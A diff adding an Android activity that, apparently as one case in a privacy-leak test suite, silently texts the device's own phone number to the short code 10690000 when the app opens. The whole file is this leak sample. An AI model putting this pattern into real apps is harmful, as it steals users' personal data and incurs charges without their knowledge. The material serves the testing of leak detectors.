@@ -1,0 +1,17 @@
+package cn.privlens.suite.later_member;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class Main extends Activity {
+    private boolean loud(Level level) { return level.ordinal() > Level.MIDDLE.ordinal(); }
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        if (loud(Level.HIGH)) {
+            SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number(), null, null);
+        }
+    }
+}
